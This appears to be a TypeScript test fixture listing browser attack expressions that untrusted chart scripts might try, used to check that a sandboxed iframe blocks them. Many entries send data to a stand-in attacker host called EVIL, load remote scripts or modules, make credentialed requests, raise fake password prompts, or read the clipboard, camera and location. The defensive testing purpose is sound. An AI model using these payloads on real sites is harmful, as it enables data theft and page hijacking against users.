// Attacks that a chart's script tries in a browser: expressions that are true if the attack succeeds. `EVIL` is the URL of the
// attacker's server, and `SERVICE` is the URL of this service.

export const ATTACKS: Readonly<Record<string, string>> = {
  "read localStorage": "localStorage.length >= 0",
  "read sessionStorage": "sessionStorage.length >= 0",
  "read cookies": "typeof document.cookie === 'string' && (document.cookie = 'a=b', true)",
  "open IndexedDB":
    "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done(true); r.onerror = fail; })",
  "open the cache storage": "!!(await caches.open('x'))",
  "share an origin": "self.origin !== 'null'",
  "read the page around it": "!!parent.document.body",
  "read the site around it": "!!top.document.body",
  "read the site's variables": "'ticks' in top && top.ticks >= 0",
  "change the site": "(top.document.title = 'pwned', true)",
  "find its own frame element": "frameElement !== null",
  "navigate the site": "(top.location.href = EVIL + '/top', false)",
  "replace the site": "(top.location.replace(EVIL + '/replace'), false)",
  "navigate the page around it": "(parent.location.href = EVIL + '/parent', false)",
  "navigate itself": "(location.href = EVIL + '/self?' + document.title, false)",
  "navigate itself to a javascript: URL of the parent": "(parent.location.href = 'javascript:top.pwned=1', false)",
  "navigate by a link":
    "(document.body.append(Object.assign(document.createElement('a'), {href: EVIL + '/link', id: 'x'})), document.getElementById('x').click(), false)",
  "navigate by a link to the top":
    "(document.body.append(Object.assign(document.createElement('a'), {href: EVIL + '/link', target: '_top', id: 'x'})), document.getElementById('x').click(), false)",
  "ping by a link":
    "(document.body.append(Object.assign(document.createElement('a'), {href: '#', ping: EVIL + '/ping', id: 'x'})), document.getElementById('x').click(), false)",
  "refresh by a meta element":
    "(document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + EVIL + '/refresh\">'), false)",
  "change the base URL":
    "(document.head.insertAdjacentHTML('afterbegin', '<base href=\"' + EVIL + '/\">'), document.baseURI.startsWith(EVIL))",
  "open a window": "open(EVIL + '/open') !== null",
  "show a dialog": "confirm('password?') || prompt('password?') !== null",
  "submit a form":
    "(document.body.insertAdjacentHTML('beforeend', '<form method=post action=\"' + EVIL + '/form\"></form>'), document.forms[0].submit(), false)",
  "fetch from its server": "(await fetch(EVIL + '/fetch')).ok",
  "fetch from the service with credentials": "(await fetch(SERVICE + 'accounts', {credentials: 'include'})).status > 0",
  "fetch from the service": "(await fetch(SERVICE + 'healthcheck')).ok",
  "send an XMLHttpRequest":
    "await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = () => done(true); r.onerror = fail; r.open('GET', EVIL + '/xhr'); r.send(); })",
  "send a beacon": "(navigator.sendBeacon(EVIL + '/beacon', 'x'), false)",
  "open a web socket":
    "await new Promise((done, fail) => { const s = new WebSocket(EVIL.replace('http', 'ws')); s.onopen = () => done(true); s.onerror = fail; })",
  "open an event source": "(new EventSource(EVIL + '/events'), false)",
  "load an image from its server": "(new globalThis.Image().src = EVIL + '/image?' + document.title, false)",
  "load an image by HTML":
    "(document.body.insertAdjacentHTML('beforeend', '<img src=\"' + EVIL + '/img\" onerror=\"globalThis.pwned=1\">'), await wait(), globalThis.pwned === 1)",
  "load a style sheet":
    "(document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=\"' + EVIL + '/style\"><style>@import \"' + EVIL + '/import\"; body { background: url(' + EVIL + '/background) }</style>'), false)",
  "load a font": "!!(await new FontFace('x', 'url(' + EVIL + '/font)').load())",
  "load media":
    "(document.body.insertAdjacentHTML('beforeend', '<video src=\"' + EVIL + '/video\" autoplay></video><audio src=\"' + EVIL + '/audio\" autoplay></audio>'), false)",
  "import a module of its server": "!!(await import(EVIL + '/module.js'))",
  "import a module of the service outside of its assets": "!!(await import(SERVICE + 'openapi.json'))",
  "import a data: URL": "!!(await import('data:text/javascript,export default 1'))",
  "add a script element":
    "(document.head.append(Object.assign(document.createElement('script'), {src: EVIL + '/script.js'})), await wait(), globalThis.pwned === true)",
  "add an inline script":
    "(document.head.append(Object.assign(document.createElement('script'), {textContent: 'globalThis.pwned = true'})), globalThis.pwned === true)",
  "add an inline handler":
    "(document.body.insertAdjacentHTML('beforeend', '<svg onload=\"globalThis.pwned=true\"></svg>'), await wait(), globalThis.pwned === true)",
  "preload from its server":
    "(document.head.insertAdjacentHTML('beforeend', '<link rel=preload as=script href=\"' + EVIL + '/preload\"><link rel=prefetch href=\"' + EVIL + '/prefetch\"><link rel=modulepreload href=\"' + EVIL + '/modulepreload\">'), false)",
  "start a worker":
    "await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done(true); w.onerror = fail; })",
  "start a shared worker": "!!new SharedWorker('data:text/javascript,1')",
  "register a service worker": "!!(await navigator.serviceWorker.register('/assets/x.js'))",
  "frame its page":
    "(document.body.insertAdjacentHTML('beforeend', '<iframe src=\"' + EVIL + '/frame\"></iframe><object data=\"' + EVIL + '/object\"></object><embed src=\"' + EVIL + '/embed\">'), false)",
  "frame a page of the service":
    "(document.body.insertAdjacentHTML('beforeend', '<iframe id=f src=\"' + SERVICE + 'chart-maker\"></iframe>'), await wait(), !!document.getElementById('f').contentDocument?.body?.textContent)",
  "use a fresh realm":
    "(document.body.insertAdjacentHTML('beforeend', '<iframe id=f></iframe>'), !!document.getElementById('f').contentWindow.RTCPeerConnection)",
  "connect by WebRTC": "!!new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:1'}]})",
  "confuse the site by a message": "(top.postMessage({type: 'login', token: 'x'}, location.origin), false)",
  "read the location":
    "!!(await new Promise((done) => navigator.geolocation.getCurrentPosition(() => done(true), () => done(false))))",
  "read the clipboard": "!!(await navigator.clipboard.readText())",
  "use the camera": "!!(await navigator.mediaDevices.getUserMedia({video: true}))",
  "fill the screen": "(await document.body.requestFullscreen(), true)",
  "download a file":
    "(Object.assign(document.createElement('a'), {href: 'data:text/plain,x', download: 'x.exe'}).click(), false)",
};
